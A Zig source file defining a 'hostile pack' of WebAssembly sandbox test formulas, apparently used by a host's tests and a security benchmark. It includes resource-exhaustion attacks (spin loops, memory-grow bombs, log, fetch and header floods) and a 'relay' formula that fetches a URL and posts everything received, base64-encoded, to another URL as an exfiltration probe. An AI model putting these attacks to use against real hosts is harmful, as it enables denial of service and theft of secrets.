//! The hostile Zig pack: each formula is one attack on a sandbox limit, the ABI or the
//! fetch policy. One source, two manifests (hostile: fuel-bound, hostile_time:
//! wall-clock-bound), shared by the host's tests and the security benchmark.
const std = @import("std");
const corral = @import("corral");

comptime {
    corral.exportPack(@This());
}

pub const formulas = .{
    .Ping = ping,
    .Spin = spin,
    .Burn = burn,
    .LogStorm = logStorm,
    .LogFlood = logFlood,
    .GrowBomb = growBomb,
    .AllocHuge = allocHuge,
    .AllocInCap = allocInCap,
    .Recurse = recurse,
    .BigOutput = bigOutput,
    .InputSize = inputSize,
    .Fetch = fetch,
    .FetchWithHeader = fetchWithHeader,
    .FetchMethod = fetchMethod,
    .FetchHeaderFlood = fetchHeaderFlood,
    .FetchBigBody = fetchBigBody,
    .FetchStorm = fetchStorm,
    .LogFetched = logFetched,
    .FailWithFetched = failWithFetched,
    .WhoAmI = whoAmI,
    .FetchCached = fetchCached,
    .Relay = relay,
};

fn ping() []const u8 {
    return "pong";
}

/// Never returns; only fuel or the epoch deadline stops it.
fn spin() i64 {
    var counter: u64 = 0;
    while (true) {
        counter +%= 1;
        std.mem.doNotOptimizeAway(&counter);
    }
}

/// Bounded but fuel-heavy work.
fn burn(rounds: i64) i64 {
    var acc: u64 = 1469598103934665603;
    var i: i64 = 0;
    while (i < rounds) : (i += 1) acc = (acc ^ @as(u64, @intCast(i))) *% 1099511628211;
    return @intCast(acc >> 1);
}

/// `times` calls of the corral.log import: a storm of host calls.
fn logStorm(times: i64) i64 {
    const line = "storm";
    var i: i64 = 0;
    while (i < times) : (i += 1) corral.abi.log(1, line.ptr, line.len);
    return i;
}

/// Log lines of `bytes` bytes each, `times` times: the log byte cap must hold.
fn logFlood(ctx: *corral.Context, bytes: i64, times: i64) !i64 {
    const line = try ctx.arena.alloc(u8, @intCast(bytes));
    @memset(line, 'L');
    var i: i64 = 0;
    while (i < times) : (i += 1) corral.abi.log(2, line.ptr, @intCast(line.len));
    return i;
}

/// Grows linear memory 16 pages at a time until the host refuses, then traps.
fn growBomb() i64 {
    var grown: i64 = 0;
    while (@wasmMemoryGrow(0, 16) != -1) grown += 16;
    std.mem.doNotOptimizeAway(&grown);
    @trap();
}

/// Asks the allocator for a gigabyte.
fn allocHuge(ctx: *corral.Context) !i64 {
    const block = try ctx.arena.alloc(u8, 1 << 30);
    return @intCast(block.len);
}

/// A large allocation that fits under the cap, touched page by page.
fn allocInCap(ctx: *corral.Context, mib: i64) !i64 {
    const block = try ctx.arena.alloc(u8, @as(usize, @intCast(mib)) << 20);
    var i: usize = 0;
    while (i < block.len) : (i += 4096) block[i] = 1;
    return @intCast(block.len);
}

fn depth(n: u32) u32 {
    if (n == 0) return 0;
    const below = @call(.never_inline, depth, .{n - 1});
    return below *% 3 +% 1;
}

/// Recursion far deeper than the wasm stack allows.
fn recurse(levels: i64) i64 {
    return @intCast(@call(.never_inline, depth, .{@as(u32, @intCast(levels))}));
}

/// A response of `bytes` bytes.
fn bigOutput(ctx: *corral.Context, bytes: i64) ![]const u8 {
    const out = try ctx.arena.alloc(u8, @intCast(bytes));
    @memset(out, 'x');
    return out;
}

/// The size of the text it was given.
fn inputSize(text: []const u8) i64 {
    return @intCast(text.len);
}

const Result = struct { status: i64, body: []const u8 };

fn fetch(ctx: *corral.Context, url: []const u8) !Result {
    const response = try ctx.fetch(.{ .url = url });
    return .{ .status = response.status, .body = response.body };
}

fn fetchWithHeader(ctx: *corral.Context, url: []const u8, name: []const u8, value: []const u8) !Result {
    const headers = [_]corral.Header{.{ .name = name, .value = value }};
    const response = try ctx.fetch(.{ .url = url, .headers = &headers });
    return .{ .status = response.status, .body = response.body };
}

fn fetchMethod(ctx: *corral.Context, url: []const u8, method: []const u8) !Result {
    const response = try ctx.fetch(.{ .url = url, .method = method });
    return .{ .status = response.status, .body = response.body };
}

/// `count` distinct request headers of `size` bytes each.
fn fetchHeaderFlood(ctx: *corral.Context, url: []const u8, count: i64, size: i64) !Result {
    const n: usize = @intCast(count);
    const headers = try ctx.arena.alloc(corral.Header, n);
    const value = try ctx.arena.alloc(u8, @intCast(size));
    @memset(value, 'v');
    for (headers, 0..) |*h, i| h.* = .{ .name = try ctx.print("X-Flood-{d}", .{i}), .value = value };
    const response = try ctx.fetch(.{ .url = url, .headers = headers });
    return .{ .status = response.status, .body = response.body };
}

/// A POST whose body is `bytes` bytes.
fn fetchBigBody(ctx: *corral.Context, url: []const u8, bytes: i64) !Result {
    const body = try ctx.arena.alloc(u8, @intCast(bytes));
    @memset(body, 'b');
    const response = try ctx.fetch(.{ .url = url, .method = "POST", .body = body });
    return .{ .status = response.status, .body = response.body };
}

/// Fetches `url` `times` times.
fn fetchStorm(ctx: *corral.Context, url: []const u8, times: i64) !i64 {
    var done: i64 = 0;
    while (done < times) : (done += 1) _ = try ctx.fetch(.{ .url = url });
    return done;
}

/// Fetches and writes the whole body to the pack log (a token echo would land there).
fn logFetched(ctx: *corral.Context, url: []const u8) !i64 {
    const response = try ctx.fetch(.{ .url = url });
    ctx.log(.warn, "fetched: {s}", .{response.body});
    return response.status;
}

/// Fetches and fails with the whole body as the error message.
fn failWithFetched(ctx: *corral.Context, url: []const u8) !i64 {
    const response = try ctx.fetch(.{ .url = url });
    return ctx.fail("upstream said: {s}", .{response.body});
}

/// The body of `url` (a cacheable formula: its result lands in the host's result cache).
fn whoAmI(ctx: *corral.Context, url: []const u8) ![]const u8 {
    const response = try ctx.fetch(.{ .url = url });
    return response.body;
}

/// A GET the host may answer from its fetch cache for `ttl` seconds.
fn fetchCached(ctx: *corral.Context, url: []const u8, ttl: i64) !Result {
    const response = try ctx.fetch(.{ .url = url, .cache_ttl_s = @intCast(ttl) });
    return .{ .status = response.status, .body = response.body };
}

/// Fetches `from` (with one extra header unless `name` is empty; `mode` is "text",
/// "binary" or "json") and posts everything it was handed to `to`, base64-encoded: the
/// status, every header, the body and the JSON, or the host's fetch error. What an
/// exfiltrating pack does with a response it should not be able to read.
fn relay(ctx: *corral.Context, from: []const u8, to: []const u8, name: []const u8, value: []const u8, mode: []const u8) !Relayed {
    const one = [_]corral.Header{.{ .name = name, .value = value }};
    const headers: []const corral.Header = if (name.len == 0) &.{} else &one;
    const binary = std.mem.eql(u8, mode, "binary");
    const json = std.mem.eql(u8, mode, "json");
    var got: []const u8 = "";
    var kind: []const u8 = "ok";
    var status: i64 = 0;
    if (ctx.fetch(.{ .url = from, .headers = headers, .binary = binary, .json = json })) |r| {
        status = r.status;
        got = try ctx.print("status={d}\n", .{r.status});
        if (r.headers == .map) for (r.headers.map) |entry| {
            const key = entry.key.asStr() orelse "";
            const text = entry.value.asStr() orelse "";
            got = try ctx.print("{s}{s}: {s}\n", .{ got, key, text });
        };
        got = try ctx.print("{s}body={s}\n", .{ got, r.body });
        if (json) got = try ctx.print("{s}json={s}\n", .{ got, try flatten(ctx, r.json) });
    } else |err| {
        if (err != error.FetchFailed) return err;
        kind = ctx.fetch_kind;
        got = try ctx.print("error={s}: {s}\n", .{ ctx.fetch_kind, ctx.message });
    }
    const encoder = std.base64.standard.Encoder;
    const encoded = try ctx.arena.alloc(u8, encoder.calcSize(got.len));
    _ = encoder.encode(encoded, got);
    _ = ctx.fetch(.{ .url = to, .method = "POST", .body = encoded }) catch {};
    return .{ .kind = kind, .status = status, .received = @intCast(got.len) };
}

const Relayed = struct { kind: []const u8, status: i64, received: i64 };

/// Every string in a decoded JSON value, one after another (what a guest can read of it).
fn flatten(ctx: *corral.Context, value: corral.Value) ![]const u8 {
    return switch (value) {
        .str, .bin => |s| s,
        .array => |items| blk: {
            var out: []const u8 = "";
            for (items) |item| out = try ctx.print("{s} {s}", .{ out, try flatten(ctx, item) });
            break :blk out;
        },
        .map => |entries| blk: {
            var out: []const u8 = "";
            for (entries) |e| out = try ctx.print("{s} {s}={s}", .{ out, try flatten(ctx, e.key), try flatten(ctx, e.value) });
            break :blk out;
        },
        else => "",
    };
}
